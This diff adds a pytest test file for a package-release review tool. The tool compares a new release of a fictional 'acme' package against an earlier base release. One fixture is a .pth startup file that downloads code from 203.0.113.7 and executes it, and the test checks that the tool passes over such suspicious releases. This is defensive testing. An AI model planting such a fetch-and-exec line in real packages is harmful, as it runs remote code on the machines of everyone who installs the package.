@@ -1,0 +1,112 @@
+"""A release read beside its base, over a registry in memory."""
+
+from __future__ import annotations
+
+from functools import partial
+
+import pytest
+
+from pratique.batch import read_all
+from pratique.cache import Cache
+from pratique.ecosystems import Target
+from pratique.errors import TargetNotFound
+from pratique.model import Budget
+from pratique.pipeline import Options
+from pratique.releases import Against, Desk, plan, read_release
+
+CLEAN = {"acme/__init__.py": b"VERSION = 1\n", "acme/a.py": b"def f(x):\n    return x + 1\n"}
+HOOKED = CLEAN | {"acme.pth": b"import os; os.system('true')\n"}
+
+
+@pytest.fixture
+def read(registry):
+    def read(version, against=None, **limits):
+        files = partial(_read_all, options=Options(audience="everything"))
+        desk = Desk(registry, files, Budget(), lambda _text: None)
+        target = Target(kind="project", text=f"acme=={version}", name="acme", version=version)
+        return [one.review for one in read_release(desk, plan(registry, target), against or Against())]
+
+    return read
+
+
+def _read_all(works, options):
+    return read_all(works, options, jobs=0, cache=Cache(None))
+
+
+def test_a_release_is_compared_with_the_one_that_stood(registry, read):
+    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z")
+    registry.add("1.1", HOOKED, "2026-03-01T00:00:00Z")
+    registry.add("1.2", HOOKED, "2026-03-01T01:00:00Z")
+
+    (found,) = read("1.2")
+
+    assert found.compared is not None
+    assert found.compared.base.package.version == "1.0"
+    assert ("added", "entry") in [(one.kind, one.topic) for one in found.changes]
+
+
+def test_a_candidate_with_an_open_look_is_passed_over(registry, read):
+    bad = CLEAN | {
+        "acme.pth": b"import os, urllib.request; exec(urllib.request.urlopen('http://203.0.113.7/x').read())\n"
+    }
+    registry.add("1.0", CLEAN, "2025-01-01T00:00:00Z")
+    registry.add("1.1", bad, "2025-06-01T00:00:00Z")
+    registry.add("1.2", bad, "2026-03-01T00:00:00Z")
+
+    (found,) = read("1.2")
+
+    assert found.compared is not None
+    assert found.compared.base.package.version == "1.0"
+
+
+def test_a_version_that_was_asked_for_is_the_base(registry, read):
+    registry.add("1.0", CLEAN)
+    registry.add("1.1", CLEAN)
+    registry.add("1.2", CLEAN)
+
+    (found,) = read("1.2", Against(version="1.0"))
+
+    assert found.compared is not None
+    assert (found.compared.base.package.version, found.compared.why) == ("1.0", "you asked for it")
+    with pytest.raises(TargetNotFound):
+        read("1.2", Against(version="0.9"))
+
+
+def test_a_first_release_has_no_base(registry, read):
+    registry.add("1.0", CLEAN)
+
+    (found,) = read("1.0")
+
+    assert (found.compared, found.changes) == (None, ())
+
+
+def test_history_counts_what_changed_since_the_predecessor_and_in_a_year(registry, read):
+    registry.add("1.0", CLEAN, "2025-03-01T00:00:00Z")
+    registry.add("1.1", CLEAN, "2025-12-01T00:00:00Z")
+    registry.add("1.2", HOOKED, "2026-02-28T00:00:00Z")
+    registry.add("1.3", HOOKED, "2026-03-01T00:00:00Z")
+
+    (found,) = read("1.3", Against(history=True))
+
+    assert [one.base.package.version for one in found.beside] == ["1.2", "1.0"]
+    assert found.beside[0].changes == ()
+    assert dict(found.beside[1].changes)["entry"] == 1
+    assert sorted(registry.fetched) == sorted(registry.files)
+
+
+def test_a_reviewed_and_drawn_release_comes_from_the_cache(registry, tmp_path):
+    registry.add("1.0", CLEAN)
+    registry.add("1.1", HOOKED)
+    target = Target(kind="project", text="acme", name="acme", version="1.1")
+
+    def once():
+        def files(works):
+            return read_all(works, Options(), jobs=0, cache=Cache(tmp_path / "facts.sqlite"))
+
+        desk = Desk(registry, files, Budget(), lambda _text: None)
+        return next(iter(read_release(desk, plan(registry, target), Against()))).review
+
+    first, again = once(), once()
+
+    assert again.changes == first.changes
+    assert again.cost.cached_files == again.read.code_files
